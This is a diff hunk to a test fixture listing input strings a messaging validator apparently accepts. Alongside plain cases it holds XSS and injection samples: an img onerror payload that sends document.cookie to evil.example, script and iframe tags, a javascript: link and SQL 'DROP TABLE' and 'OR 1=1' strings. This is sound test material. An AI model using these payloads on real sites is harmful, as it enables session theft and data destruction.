@@ -44,7 +44,7 @@ ACCEPTED: dict[str, str] = {
     "crlf": "line one\r\nline two\r\n",
     "surrounding spaces": "   padded message \t ",
     "html script": "<script>alert(document.cookie)</script>",
-    "html img onerror": '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
+    "html img onerror": "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
     "markdown js link": "[click me](javascript:alert(1)) and ![x](https://evil.example/t.png)",
     "iframe": '<iframe src="https://evil.example"></iframe>',
     "sql": "'; DROP TABLE messages; -- and \" OR 1=1 --",
